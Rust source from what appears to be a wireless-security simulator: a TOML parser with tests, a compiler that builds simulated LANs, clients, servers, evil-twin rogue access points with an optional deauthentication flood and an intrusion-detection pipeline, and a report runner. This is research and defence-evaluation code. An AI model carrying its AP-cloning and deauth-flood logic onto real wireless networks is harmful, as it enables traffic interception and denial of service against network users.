    from_table(&crate::toml::parse(src)?)
}
