//! A hand-rolled parser for the TOML subset the scenario language uses.
//!
//! No external dependency (the reproduction vendors everything it
//! needs), and no more TOML than the scenario files require:
//!
//! * `key = value` pairs with bare keys,
//! * `[table.header]` and `[[array.of.tables]]` with dotted paths,
//! * strings (`"..."` with `\\ \" \n \t \r` escapes), booleans,
//!   integers (decimal and `0x…`, `_` separators), floats, and
//!   single-line arrays (nesting allowed),
//! * `#` comments and blank lines.
//!
//! Deliberately missing: multi-line strings/arrays, inline tables,
//! dotted keys on the left of `=`, dates. Every [`Item`] carries the
//! line/column it started at, so the `spec` layer can report "unknown
//! key `foo` (line 12, col 3)" instead of a bare serde-style path.

use std::fmt;

/// Where a token started, 1-based.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct Span {
    /// Line number (1-based).
    pub line: u32,
    /// Column number (1-based, in characters).
    pub col: u32,
}

impl fmt::Display for Span {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "line {}, col {}", self.line, self.col)
    }
}

/// A parse or validation error, positioned in the source file.
#[derive(Clone, Debug, PartialEq)]
pub struct Error {
    /// Where it happened.
    pub span: Span,
    /// What went wrong.
    pub msg: String,
}

impl Error {
    /// Build an error at `span`.
    pub fn at(span: Span, msg: impl Into<String>) -> Error {
        Error {
            span,
            msg: msg.into(),
        }
    }
}

impl fmt::Display for Error {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}: {}", self.span, self.msg)
    }
}

impl std::error::Error for Error {}

/// A parsed value.
#[derive(Clone, Debug, PartialEq)]
pub enum Value {
    /// `"..."`.
    Str(String),
    /// Decimal or hex integer.
    Int(i64),
    /// Float (any number containing `.`, `e` or `E`).
    Float(f64),
    /// `true` / `false`.
    Bool(bool),
    /// `[ v, v, … ]` on one line.
    Array(Vec<Item>),
    /// A (sub)table from a `[header]` or `[[header]]`.
    Table(Table),
}

impl Value {
    /// Human name for error messages.
    pub fn type_name(&self) -> &'static str {
        match self {
            Value::Str(_) => "string",
            Value::Int(_) => "integer",
            Value::Float(_) => "float",
            Value::Bool(_) => "boolean",
            Value::Array(_) => "array",
            Value::Table(_) => "table",
        }
    }
}

/// A value plus where it started.
#[derive(Clone, Debug, PartialEq)]
pub struct Item {
    /// The value.
    pub value: Value,
    /// Source position of the value (arrays/tables: of the opener).
    pub span: Span,
}

/// An ordered key → item map. Order is preserved so "first unknown key"
/// errors and array-of-table iteration are deterministic.
#[derive(Clone, Debug, Default, PartialEq)]
pub struct Table {
    /// Entries in file order.
    pub entries: Vec<(String, Item)>,
    /// Where the table was opened (the header, or 1:1 for the root).
    pub span: Span,
}

impl Table {
    /// Look up a key.
    pub fn get(&self, key: &str) -> Option<&Item> {
        self.entries.iter().find(|(k, _)| k == key).map(|(_, v)| v)
    }

    /// Look up a key, mutably.
    pub fn get_mut(&mut self, key: &str) -> Option<&mut Item> {
        self.entries
            .iter_mut()
            .find(|(k, _)| k == key)
            .map(|(_, v)| v)
    }

    fn insert(&mut self, key: &str, item: Item) -> Result<(), Error> {
        if self.get(key).is_some() {
            return Err(Error::at(item.span, format!("duplicate key `{key}`")));
        }
        self.entries.push((key.to_string(), item));
        Ok(())
    }
}

/// Parse a whole scenario file into its root [`Table`].
pub fn parse(src: &str) -> Result<Table, Error> {
    let mut root = Table {
        entries: Vec::new(),
        span: Span { line: 1, col: 1 },
    };
    // Path of the table currently receiving `key = value` lines. Each
    // segment is (name, is-array); re-resolved per line because pushing
    // to an array of tables moves earlier borrows.
    let mut current: Vec<String> = Vec::new();

    for (idx, raw) in src.lines().enumerate() {
        let line_no = idx as u32 + 1;
        let mut lex = Lexer::new(raw, line_no);
        lex.skip_ws();
        if lex.at_end_or_comment() {
            continue;
        }
        if lex.peek() == Some('[') {
            let span = lex.span();
            let is_array = lex.rest().starts_with("[[");
            lex.bump();
            if is_array {
                lex.bump();
            }
            let path = lex.header_path()?;
            let closer = if is_array { "]]" } else { "]" };
            if !lex.rest().starts_with(closer) {
                return Err(Error::at(lex.span(), format!("expected `{closer}`")));
            }
            for _ in 0..closer.len() {
                lex.bump();
            }
            lex.skip_ws();
            if !lex.at_end_or_comment() {
                return Err(Error::at(lex.span(), "trailing characters after header"));
            }
            open_table(&mut root, &path, is_array, span)?;
            current = path;
            continue;
        }
        // key = value
        let key_span = lex.span();
        let key = lex.bare_key()?;
        lex.skip_ws();
        if lex.peek() != Some('=') {
            return Err(Error::at(lex.span(), "expected `=` after key"));
        }
        lex.bump();
        lex.skip_ws();
        let item = lex.value()?;
        lex.skip_ws();
        if !lex.at_end_or_comment() {
            return Err(Error::at(lex.span(), "trailing characters after value"));
        }
        let table = navigate(&mut root, &current, key_span)?;
        table.insert(&key, item)?;
    }
    Ok(root)
}

/// Parse a single value (used by `--override key=value`). Falls back to
/// a bare string when the text is not a valid TOML value, so
/// `--override name=quick-look` works without inner quotes.
pub fn parse_value_or_str(src: &str) -> Item {
    let mut lex = Lexer::new(src, 1);
    lex.skip_ws();
    if let Ok(item) = lex.value() {
        lex.skip_ws();
        if lex.at_end_or_comment() {
            return item;
        }
    }
    Item {
        value: Value::Str(src.trim().to_string()),
        span: Span { line: 1, col: 1 },
    }
}

/// Walk `path` from the root, returning the table that should receive
/// key/value pairs (the *last* element for arrays of tables).
fn navigate<'t>(root: &'t mut Table, path: &[String], span: Span) -> Result<&'t mut Table, Error> {
    let mut t = root;
    for seg in path {
        let item = t
            .get_mut(seg)
            .ok_or_else(|| Error::at(span, format!("internal: lost table `{seg}`")))?;
        t = match &mut item.value {
            Value::Table(t) => t,
            Value::Array(items) => match items.last_mut() {
                Some(Item {
                    value: Value::Table(t),
                    ..
                }) => t,
                _ => return Err(Error::at(span, format!("`{seg}` is not a table"))),
            },
            _ => return Err(Error::at(span, format!("`{seg}` is not a table"))),
        };
    }
    Ok(t)
}

/// Like [`navigate`], but materializes missing intermediate tables (a
/// `[population.mobility]` header implicitly creates `[population]`).
fn navigate_create<'t>(
    root: &'t mut Table,
    path: &[String],
    span: Span,
) -> Result<&'t mut Table, Error> {
    let mut t = root;
    for seg in path {
        let slot = match t.entries.iter().position(|(k, _)| k == seg) {
            Some(p) => p,
            None => {
                t.entries.push((
                    seg.clone(),
                    Item {
                        value: Value::Table(Table {
                            entries: Vec::new(),
                            span,
                        }),
                        span,
                    },
                ));
                t.entries.len() - 1
            }
        };
        t = match &mut t.entries[slot].1.value {
            Value::Table(t) => t,
            Value::Array(items) => match items.last_mut() {
                Some(Item {
                    value: Value::Table(t),
                    ..
                }) => t,
                _ => return Err(Error::at(span, format!("`{seg}` is not a table"))),
            },
            _ => return Err(Error::at(span, format!("`{seg}` is not a table"))),
        };
    }
    Ok(t)
}

/// Create (or extend, for `[[…]]`) the table named by a header.
fn open_table(root: &mut Table, path: &[String], is_array: bool, span: Span) -> Result<(), Error> {
    let (parents, leaf) = path.split_at(path.len() - 1);
    let parent = navigate_create(root, parents, span)?;
    let leaf = &leaf[0];
    let fresh = Item {
        value: Value::Table(Table {
            entries: Vec::new(),
            span,
        }),
        span,
    };
    match parent.get_mut(leaf) {
        None => {
            let item = if is_array {
                Item {
                    value: Value::Array(vec![fresh]),
                    span,
                }
            } else {
                fresh
            };
            parent.entries.push((leaf.clone(), item));
        }
        Some(existing) => match (&mut existing.value, is_array) {
            (Value::Array(items), true) => items.push(fresh),
            (Value::Table(_), false) => {
                return Err(Error::at(span, format!("table `{leaf}` defined twice")))
            }
            (Value::Array(_), false) => {
                return Err(Error::at(
                    span,
                    format!("`{leaf}` is an array of tables; use `[[{leaf}]]`"),
                ))
            }
            (_, _) => {
                return Err(Error::at(
                    span,
                    format!("`{leaf}` already defined as a value"),
                ))
            }
        },
    }
    Ok(())
}

/// Single-line tokenizer.
struct Lexer<'a> {
    chars: Vec<char>,
    pos: usize,
    line: u32,
    src: &'a str,
}

impl<'a> Lexer<'a> {
    fn new(src: &'a str, line: u32) -> Lexer<'a> {
        Lexer {
            chars: src.chars().collect(),
            pos: 0,
            line,
            src,
        }
    }

    fn span(&self) -> Span {
        Span {
            line: self.line,
            col: self.pos as u32 + 1,
        }
    }

    fn peek(&self) -> Option<char> {
        self.chars.get(self.pos).copied()
    }

    fn bump(&mut self) -> Option<char> {
        let c = self.peek();
        if c.is_some() {
            self.pos += 1;
        }
        c
    }

    fn rest(&self) -> String {
        self.chars[self.pos..].iter().collect()
    }

    fn skip_ws(&mut self) {
        while matches!(self.peek(), Some(' ') | Some('\t')) {
            self.pos += 1;
        }
    }

    fn at_end_or_comment(&self) -> bool {
        matches!(self.peek(), None | Some('#'))
    }

    fn bare_key(&mut self) -> Result<String, Error> {
        let start = self.pos;
        while matches!(self.peek(), Some(c) if c.is_ascii_alphanumeric() || c == '_' || c == '-') {
            self.pos += 1;
        }
        if self.pos == start {
            return Err(Error::at(self.span(), "expected a key"));
        }
        Ok(self.chars[start..self.pos].iter().collect())
    }

    fn header_path(&mut self) -> Result<Vec<String>, Error> {
        let mut path = Vec::new();
        loop {
            self.skip_ws();
            path.push(self.bare_key()?);
            self.skip_ws();
            if self.peek() == Some('.') {
                self.bump();
            } else {
                break;
            }
        }
        Ok(path)
    }

    fn value(&mut self) -> Result<Item, Error> {
        let span = self.span();
        let value = match self.peek() {
            None | Some('#') => return Err(Error::at(span, "expected a value")),
            Some('"') => Value::Str(self.string()?),
            Some('[') => {
                self.bump();
                let mut items = Vec::new();
                loop {
                    self.skip_ws();
                    if self.peek() == Some(']') {
                        self.bump();
                        break;
                    }
                    items.push(self.value()?);
                    self.skip_ws();
                    match self.peek() {
                        Some(',') => {
                            self.bump();
                        }
                        Some(']') => {}
                        _ => {
                            return Err(Error::at(self.span(), "expected `,` or `]` in array"));
                        }
                    }
                }
                Value::Array(items)
            }
            Some('t') | Some('f') => {
                let word = self.bare_key()?;
                match word.as_str() {
                    "true" => Value::Bool(true),
                    "false" => Value::Bool(false),
                    other => {
                        return Err(Error::at(span, format!("unknown literal `{other}`")));
                    }
                }
            }
            Some(c) if c.is_ascii_digit() || c == '-' || c == '+' || c == '.' => {
                self.number(span)?
            }
            Some(c) => return Err(Error::at(span, format!("unexpected character `{c}`"))),
        };
        Ok(Item { value, span })
    }

    fn string(&mut self) -> Result<String, Error> {
        self.bump(); // opening quote
        let mut out = String::new();
        loop {
            match self.bump() {
                None => return Err(Error::at(self.span(), "unterminated string")),
                Some('"') => return Ok(out),
                Some('\\') => match self.bump() {
                    Some('n') => out.push('\n'),
                    Some('t') => out.push('\t'),
                    Some('r') => out.push('\r'),
                    Some('"') => out.push('"'),
                    Some('\\') => out.push('\\'),
                    other => {
                        return Err(Error::at(
                            self.span(),
                            format!(
                                "unknown escape `\\{}`",
                                other.map_or_else(String::new, String::from)
                            ),
                        ))
                    }
                },
                Some(c) => out.push(c),
            }
        }
    }

    fn number(&mut self, span: Span) -> Result<Value, Error> {
        let start = self.pos;
        while matches!(self.peek(),
            Some(c) if c.is_ascii_alphanumeric() || "+-._".contains(c))
        {
            self.pos += 1;
        }
        let raw: String = self.chars[start..self.pos].iter().collect();
        let clean: String = raw.chars().filter(|&c| c != '_').collect();
        if let Some(hex) = clean
            .strip_prefix("0x")
            .or_else(|| clean.strip_prefix("0X"))
        {
            return i64::from_str_radix(hex, 16)
                .map(Value::Int)
                .map_err(|_| Error::at(span, format!("invalid hex integer `{raw}`")));
        }
        if clean.contains(['.', 'e', 'E']) {
            clean
                .parse::<f64>()
                .map(Value::Float)
                .map_err(|_| Error::at(span, format!("invalid float `{raw}`")))
        } else {
            clean
                .parse::<i64>()
                .map(Value::Int)
                .map_err(|_| Error::at(span, format!("invalid integer `{raw}`")))
        }
    }

    #[allow(dead_code)]
    fn src(&self) -> &str {
        self.src
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_scalars_and_headers() {
        let t = parse(
            "name = \"demo\" # comment\n\
             count = 500\n\
             seed = 0x2003_1CC9\n\
             rate = 2.5\n\
             live = true\n\
             [medium]\n\
             sigma = 6.0\n\
             [[ap]]\n\
             channel = 1\n\
             [[ap]]\n\
             channel = 6\n",
        )
        .unwrap();
        assert_eq!(t.get("name").unwrap().value, Value::Str("demo".into()));
        assert_eq!(t.get("count").unwrap().value, Value::Int(500));
        assert_eq!(t.get("seed").unwrap().value, Value::Int(0x2003_1CC9));
        assert_eq!(t.get("rate").unwrap().value, Value::Float(2.5));
        assert_eq!(t.get("live").unwrap().value, Value::Bool(true));
        match &t.get("ap").unwrap().value {
            Value::Array(aps) => {
                assert_eq!(aps.len(), 2);
                match &aps[1].value {
                    Value::Table(ap) => {
                        assert_eq!(ap.get("channel").unwrap().value, Value::Int(6))
                    }
                    other => panic!("{other:?}"),
                }
            }
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn parses_arrays_and_dotted_headers() {
        let t = parse(
            "[population.mobility]\n\
             area = [[0.0, 0.0], [100.0, 50.0]]\n\
             speed = [0.5, 2.0]\n",
        )
        .unwrap();
        let pop = match &t.get("population").unwrap().value {
            Value::Table(t) => t,
            other => panic!("{other:?}"),
        };
        let mob = match &pop.get("mobility").unwrap().value {
            Value::Table(t) => t,
            other => panic!("{other:?}"),
        };
        match &mob.get("area").unwrap().value {
            Value::Array(rows) => assert_eq!(rows.len(), 2),
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn errors_carry_line_and_column() {
        let err = parse("ok = 1\nbad - 2\n").unwrap_err();
        assert_eq!(err.span.line, 2);
        assert!(err.to_string().contains("expected `=`"), "{err}");

        let err = parse("x = 1\nx = 2\n").unwrap_err();
        assert_eq!(err.span.line, 2);
        assert!(err.to_string().contains("duplicate key"), "{err}");

        let err = parse("s = \"open\n").unwrap_err();
        assert!(err.to_string().contains("unterminated"), "{err}");
    }

    #[test]
    fn override_values_fall_back_to_strings() {
        assert_eq!(parse_value_or_str("42").value, Value::Int(42));
        assert_eq!(parse_value_or_str("2.5").value, Value::Float(2.5));
        assert_eq!(parse_value_or_str("true").value, Value::Bool(true));
        assert_eq!(
            parse_value_or_str("30s").value,
            Value::Str("30s".to_string())
        );
        assert_eq!(
            parse_value_or_str("\"quoted\"").value,
            Value::Str("quoted".to_string())
        );
    }
}
