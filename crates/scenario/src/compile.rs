//! The compiler: lowering a validated [`Scenario`] onto a
//! `rogue-core` [`World`].
//!
//! The generic topology is one bridged LAN: every `[[ap]]` bridges
//! 802.11 onto a single switch, every `[[server]]` is a wired host on
//! it, and all addresses share one /8, so ARP resolves station ↔ server
//! without routers. Populations are expanded by [`crate::generate`],
//! their mobile clients registered as [`MobilityPlan`] walkers, and
//! traffic templates become the ordinary `rogue-services` apps. Rogues
//! are cloned from the AP they impersonate ([`clone_ap`], exactly as an
//! attacker would from a captured beacon) and brought on air at their
//! activation time; the optional deauth flood uses the same timing
//! offsets the hand-coded §4 attack does.

use rogue_attack::{clone_ap, DeauthFlooder};
use rogue_core::world::{SwitchId, World};
use rogue_dot11::frame::MgmtInfo;
use rogue_dot11::{MacAddr, StaConfig};
use rogue_netstack::{IfIndex, Ipv4Addr};
use rogue_services::apps::{DownloadClient, HttpServerApp};
use rogue_services::site::{download_portal, make_binary, news_site};
use rogue_services::traffic::{PingApp, UdpCbrSource, UdpSink};
use rogue_sim::{SimDuration, SimRng, SimTime};
use rogue_wids::{RadioSensor, WidsConfig, WidsPipeline, WiredSensor};

use crate::generate::{expand_all, ClientSpec};
use crate::mobility::{MobilityModel, MobilityPlan, Walker};
use crate::spec::{FlowSpec, MobilitySpec, ReportKind, Scenario, ServerContent};
use crate::toml::{Error, Span};

/// UDP sink port on every server.
pub const UDP_PORT: u16 = 5000;

/// One compiled client.
pub struct ClientHandle {
    /// The generated spec it came from.
    pub spec: ClientSpec,
    /// Node id.
    pub node: rogue_core::NodeId,
    /// Station radio index on the node.
    pub radio: usize,
    /// Station interface.
    pub iface: IfIndex,
    /// UDP datagrams this client's sources will send (for summaries).
    pub udp_source_apps: Vec<usize>,
    /// Browser app indices.
    pub browser_apps: Vec<usize>,
    /// Download app indices.
    pub download_apps: Vec<usize>,
    /// Ping app indices.
    pub ping_apps: Vec<usize>,
}

/// One compiled server.
pub struct ServerHandle {
    /// Node id.
    pub node: rogue_core::NodeId,
    /// Bytes of the page clients verify against (News servers).
    pub expected_body: bytes::Bytes,
    /// UDP sink app index.
    pub sink_app: usize,
}

/// One compiled rogue.
pub struct RogueHandle {
    /// Node id.
    pub node: rogue_core::NodeId,
    /// Rogue AP radio index.
    pub ap_radio: usize,
    /// Deauth injector radio index, if armed.
    pub injector_radio: Option<usize>,
}

/// A live WIDS deployment (summary runs step it per tick).
pub struct WidsDeployment {
    /// The defender node.
    pub node: rogue_core::NodeId,
    /// Monitor radio indices.
    pub monitors: Vec<usize>,
    /// The pipeline.
    pub pipe: WidsPipeline,
    /// One radio sensor per monitor.
    pub radio_sensors: Vec<RadioSensor>,
    /// The span-port sensor.
    pub wired_sensor: WiredSensor,
    /// Frames already ingested from the tap.
    pub wired_cursor: usize,
}

/// A scenario lowered onto a world, ready to run.
pub struct Compiled {
    /// The world.
    pub world: World,
    /// Walkers to step each tick.
    pub mobility: MobilityPlan,
    /// Clients, in generation order.
    pub clients: Vec<ClientHandle>,
    /// Servers, in file order.
    pub servers: Vec<ServerHandle>,
    /// Rogues, in file order.
    pub rogues: Vec<RogueHandle>,
    /// WIDS deployment, if the file asks for one.
    pub wids: Option<WidsDeployment>,
    /// The LAN switch everything bridges onto.
    pub lan: SwitchId,
}

/// Lower `sc` onto a fresh world.
pub fn compile(sc: &Scenario) -> Result<Compiled, Error> {
    if sc.report.kind != ReportKind::Summary {
        return Err(Error::at(
            Span { line: 1, col: 1 },
            "only summary scenarios compile to a world; e1/e10 kinds run \
             through their experiment drivers",
        ));
    }
    let mut world = World::new(sc.seed, sc.medium.clone());
    let mut rng = SimRng::new(sc.seed.fork(0xC0DE));
    let lan = world.add_switch(SimDuration::from_micros(10));

    // --- infrastructure APs -------------------------------------------
    let mut ap_radios = Vec::new();
    for (i, ap) in sc.aps.iter().enumerate() {
        let node = world.add_node(&format!("ap-{}-{i}", ap.ssid));
        let cfg = rogue_dot11::ApConfig::typical(ap.bssid, &ap.ssid, ap.channel, ap.wep_key());
        let radio = world.add_ap_bridge(node, ap.pos, ap.tx_power_dbm, cfg, Some(lan));
        ap_radios.push((node, radio));
    }

    // --- servers -------------------------------------------------------
    let mut servers = Vec::new();
    for (i, srv) in sc.servers.iter().enumerate() {
        let node = world.add_node(&format!("srv-{}", srv.name));
        world.add_wired_iface(node, lan, MacAddr::local(0xFE00 + i as u64), srv.ip, 8);
        let (site, expected_body) = match &srv.content {
            ServerContent::News => {
                let site = news_site();
                let body = site.get("/index.html").expect("news page").1.clone();
                (site, body)
            }
            ServerContent::Download { file_len } => {
                let portal = download_portal(make_binary(&mut rng, *file_len));
                let body = portal
                    .site
                    .get("/download.html")
                    .expect("portal page")
                    .1
                    .clone();
                (portal.site, body)
            }
        };
        world.add_app(node, Box::new(HttpServerApp::new(80, site)));
        let sink_app = world.add_app(node, Box::new(UdpSink::new(UDP_PORT)));
        servers.push(ServerHandle {
            node,
            expected_body,
            sink_app,
        });
    }

    // --- populations ---------------------------------------------------
    let mut mobility = MobilityPlan::new();
    let mut clients = Vec::new();
    for spec in expand_all(sc) {
        let pop = &sc.populations[spec.population];
        let node = world.add_node(&spec.name);
        let wep = pop
            .wep
            .as_deref()
            .map(rogue_crypto::wep::WepKey::from_passphrase_40);
        let sta = StaConfig::typical(spec.mac, &pop.ssid, wep);
        let (radio, iface) = world.add_sta(node, spec.pos, 15.0, sta, spec.ip, 8);
        if let MobilitySpec::Waypoint { speed_mps, pause } = pop.mobility {
            mobility.add(Walker::new(
                world.radio_id(node, radio),
                spec.pos,
                MobilityModel::RandomWaypoint {
                    area: pop.area,
                    speed_mps,
                    pause,
                },
                spec.seed,
            ));
        }
        let mut handle = ClientHandle {
            node,
            radio,
            iface,
            udp_source_apps: Vec::new(),
            browser_apps: Vec::new(),
            download_apps: Vec::new(),
            ping_apps: Vec::new(),
            spec,
        };
        for &fi in &handle.spec.flows {
            let t = &pop.traffic[fi];
            let srv_index = sc
                .servers
                .iter()
                .position(|s| s.name == t.server)
                .expect("validated reference");
            let srv = &servers[srv_index];
            let dst = sc.servers[srv_index].ip;
            match &t.flow {
                FlowSpec::Http { path, period } => {
                    let app = world.add_app(
                        node,
                        Box::new(rogue_services::apps::BrowserApp::new(
                            dst,
                            path,
                            srv.expected_body.clone(),
                            t.start,
                            *period,
                        )),
                    );
                    handle.browser_apps.push(app);
                }
                FlowSpec::Download => {
                    let app = world.add_app(
                        node,
                        Box::new(DownloadClient::new(
                            dst,
                            "/download.html",
                            t.start,
                            SimDuration::from_secs(25),
                        )),
                    );
                    handle.download_apps.push(app);
                }
                FlowSpec::Udp {
                    rate_pps,
                    payload,
                    profile,
                } => {
                    let end = SimTime::ZERO + sc.duration;
                    // Compile the diurnal profile into back-to-back CBR
                    // windows; a scale of 0 leaves the window silent.
                    let windows: Vec<(SimTime, SimTime, f64)> = if profile.is_empty() {
                        vec![(t.start, end, 1.0)]
                    } else {
                        profile
                            .iter()
                            .enumerate()
                            .map(|(wi, &(from, scale))| {
                                let until =
                                    profile.get(wi + 1).map(|&(next, _)| next).unwrap_or(end);
                                (from.max(t.start), until.min(end), scale)
                            })
                            .collect()
                    };
                    for (from, until, scale) in windows {
                        if scale <= 0.0 || until <= from {
                            continue;
                        }
                        let pps = (*rate_pps as f64 * scale).max(0.001);
                        let interval = SimDuration::from_nanos((1e9 / pps).round().max(1.0) as u64);
                        let app = world.add_app(
                            node,
                            Box::new(UdpCbrSource::new(
                                (dst, UDP_PORT),
                                *payload,
                                interval,
                                from,
                                until,
                            )),
                        );
                        handle.udp_source_apps.push(app);
                    }
                }
                FlowSpec::Ping { period } => {
                    let app = world.add_app(node, Box::new(PingApp::new(dst, t.start, *period)));
                    handle.ping_apps.push(app);
                }
            }
        }
        clients.push(handle);
    }

    // --- rogues --------------------------------------------------------
    let mut rogues = Vec::new();
    for (i, r) in sc.rogues.iter().enumerate() {
        let cloned = sc
            .aps
            .iter()
            .find(|ap| ap.ssid == r.clone_of)
            .expect("validated reference");
        let node = world.add_node(&format!("rogue-{i}"));
        // What the attacker would have sniffed from the victim network.
        let observed = MgmtInfo {
            timestamp: 0,
            beacon_interval_tu: 100,
            capability: 0, // unused by clone_ap
            ssid: cloned.ssid.clone(),
            channel: cloned.channel,
        };
        let cfg = clone_ap(&observed, cloned.bssid, r.channel, cloned.wep_key());
        let (ap_radio, _iface) = world.add_ap_local_starting_at(
            node,
            r.pos,
            r.tx_power_dbm,
            cfg,
            Ipv4Addr::new(10, 66, 66, 1 + i as u8),
            8,
            r.start,
        );
        let injector_radio = if r.deauth {
            // Same cadence as the §4 hand-coded attack: flood starts
            // 700 ms after the rogue is on air, on the victim channel.
            let flooder = DeauthFlooder::new(
                cloned.bssid,
                r.deauth_target,
                r.start + SimDuration::from_millis(700),
                SimDuration::from_millis(150),
                r.start + SimDuration::from_secs(60),
            );
            Some(world.add_injector(node, r.pos, 18.0, cloned.channel, flooder))
        } else {
            None
        };
        rogues.push(RogueHandle {
            node,
            ap_radio,
            injector_radio,
        });
    }

    // --- WIDS ----------------------------------------------------------
    let wids = sc.wids.as_ref().map(|w| {
        let node = world.add_node("wids-defender");
        let monitors: Vec<usize> = w
            .channels
            .iter()
            .map(|&ch| world.add_monitor(node, w.pos, ch))
            .collect();
        world.add_wire_tap(node, lan);
        let mut pipe = WidsPipeline::new(WidsConfig {
            authorized_aps: sc.aps.iter().map(|ap| (ap.bssid, ap.channel)).collect(),
            trusted_bindings: sc
                .servers
                .iter()
                .enumerate()
                .map(|(i, s)| (s.ip, MacAddr::local(0xFE00 + i as u64)))
                .collect(),
            ..WidsConfig::default()
        });
        let radio_sensors = monitors
            .iter()
            .map(|_| RadioSensor::new(pipe.new_sensor_id()))
            .collect();
        let wired_sensor = WiredSensor::new(pipe.new_sensor_id());
        WidsDeployment {
            node,
            monitors,
            pipe,
            radio_sensors,
            wired_sensor,
            wired_cursor: 0,
        }
    });

    Ok(Compiled {
        world,
        mobility,
        clients,
        servers,
        rogues,
        wids,
        lan,
    })
}
