//! Running a scenario and rendering its report.
//!
//! Three report kinds:
//!
//! * `summary` — compile onto a world, interleave simulation slices with
//!   mobility ticks and WIDS sensor drains, then print a key/value run
//!   summary;
//! * `e1` / `e10` — hand the file's `[corp]`/`[e1]`/`[e10]` overlays to
//!   the experiment drivers in `rogue-core` and print the same table the
//!   `rogue-bench` harness prints. At the paper defaults the output is
//!   byte-identical to the checked-in report.

use rogue_core::experiments::{e10_evasion, e10_wids, e1_association};
use rogue_core::report::Table;
use rogue_core::scenario::CorpScenarioCfg;
use rogue_dot11::MacEvent;
use rogue_dot11::StaState;
use rogue_services::apps::{BrowserApp, DownloadClient};
use rogue_services::traffic::{PingApp, UdpCbrSource, UdpSink};
use rogue_sim::SimTime;

use crate::compile::{compile, Compiled};
use crate::spec::{ReportKind, Scenario};
use crate::toml::{parse_value_or_str, Error, Item, Table as TomlTable, Value};

/// Totals a finished summary run reports (also handy for tests).
#[derive(Clone, Debug, Default, PartialEq)]
pub struct SummaryStats {
    /// Clients compiled.
    pub clients: usize,
    /// Clients associated when the run ended.
    pub associated_at_end: usize,
    /// Station association events over the run.
    pub associations: usize,
    /// Forced disassociations (deauth/disassoc received).
    pub forced_disassociations: usize,
    /// Mobility walkers.
    pub walkers: usize,
    /// `set_pos` moves applied.
    pub moves: u64,
    /// Browser pages whose body matched.
    pub pages_ok: u64,
    /// Browser pages that came back altered.
    pub pages_tampered: u64,
    /// Browser fetches that failed.
    pub page_failures: u64,
    /// Download workflows that completed and verified.
    pub downloads_ok: u64,
    /// Download workflows that failed or mismatched.
    pub downloads_bad: u64,
    /// UDP datagrams sent by all sources.
    pub udp_sent: u64,
    /// UDP datagrams received by all sinks.
    pub udp_received: u64,
    /// ICMP echoes sent / answered.
    pub pings_sent: u64,
    /// Echo replies received.
    pub pings_answered: u64,
    /// WIDS incidents opened (0 when no `[wids]` section).
    pub wids_incidents: usize,
}

/// A finished summary run: the compiled world plus its totals.
pub struct SummaryRun {
    /// The world and handles, after the run.
    pub compiled: Compiled,
    /// Extracted totals.
    pub stats: SummaryStats,
}

/// Compile `sc` and run it to its horizon, stepping mobility and the
/// WIDS pipeline on the scenario tick.
pub fn run_summary(sc: &Scenario) -> Result<SummaryRun, Error> {
    let mut c = compile(sc)?;
    let end = SimTime::ZERO + sc.duration;
    let mut now = SimTime::ZERO;
    while now < end {
        now = (now + sc.tick).min(end);
        c.world.run_until(now);
        c.mobility.step(now, sc.tick, &mut c.world.medium);
        if let Some(w) = &mut c.wids {
            for (sensor, &mon) in w.radio_sensors.iter_mut().zip(&w.monitors) {
                sensor.drain(c.world.sniffer(w.node, mon), &mut w.pipe.ring);
            }
            if let Some(tap) = c.world.wire_tap(w.node) {
                for (at, bytes) in &tap.frames[w.wired_cursor..] {
                    w.wired_sensor.ingest(*at, bytes, &mut w.pipe.ring);
                }
                w.wired_cursor = tap.frames.len();
            }
            w.pipe.step(now);
        }
    }

    let mut stats = SummaryStats {
        clients: c.clients.len(),
        walkers: c.mobility.len(),
        moves: c.mobility.moves_applied,
        wids_incidents: c.wids.as_ref().map_or(0, |w| w.pipe.incidents().len()),
        ..SummaryStats::default()
    };
    for (_, _, ev) in &c.world.mac_events {
        match ev {
            MacEvent::Associated { .. } => stats.associations += 1,
            MacEvent::Disassociated { forced: true, .. } => stats.forced_disassociations += 1,
            _ => {}
        }
    }
    for cl in &c.clients {
        if c.world.sta_state(cl.node, cl.radio) == StaState::Associated {
            stats.associated_at_end += 1;
        }
        for &a in &cl.browser_apps {
            let b: &BrowserApp = c.world.app(cl.node, a);
            stats.pages_ok += b.pages_ok;
            stats.pages_tampered += b.pages_tampered;
            stats.page_failures += b.failures;
        }
        for &a in &cl.download_apps {
            let d: &DownloadClient = c.world.app(cl.node, a);
            match &d.outcome {
                Some(o) if o.error.is_none() && o.verified => stats.downloads_ok += 1,
                _ => stats.downloads_bad += 1,
            }
        }
        for &a in &cl.udp_source_apps {
            stats.udp_sent += c.world.app::<UdpCbrSource>(cl.node, a).sent;
        }
        for &a in &cl.ping_apps {
            let p: &PingApp = c.world.app(cl.node, a);
            stats.pings_sent += p.sent;
            stats.pings_answered += p.received;
        }
    }
    for srv in &c.servers {
        stats.udp_received += c.world.app::<UdpSink>(srv.node, srv.sink_app).received;
    }
    Ok(SummaryRun { compiled: c, stats })
}

/// Render the summary table for a finished run.
pub fn summary_report(sc: &Scenario, run: &SummaryRun) -> String {
    let s = &run.stats;
    let mut t = Table::new(&["metric", "value"]);
    let mut kv = |k: &str, v: String| t.row(&[k.to_string(), v]);
    kv("scenario", sc.name.clone());
    kv("seed", format!("{:#x}", sc.seed.0));
    kv("duration", format!("{:.1}s", sc.duration.as_secs_f64()));
    kv("clients", s.clients.to_string());
    kv("associated at end", s.associated_at_end.to_string());
    kv("associations", s.associations.to_string());
    kv(
        "forced disassociations",
        s.forced_disassociations.to_string(),
    );
    kv("mobile walkers", s.walkers.to_string());
    kv("waypoint moves applied", s.moves.to_string());
    kv(
        "pages ok / tampered / failed",
        format!(
            "{} / {} / {}",
            s.pages_ok, s.pages_tampered, s.page_failures
        ),
    );
    kv(
        "downloads ok / bad",
        format!("{} / {}", s.downloads_ok, s.downloads_bad),
    );
    kv(
        "udp sent / received",
        format!("{} / {}", s.udp_sent, s.udp_received),
    );
    kv(
        "pings sent / answered",
        format!("{} / {}", s.pings_sent, s.pings_answered),
    );
    kv("rogues", run.compiled.rogues.len().to_string());
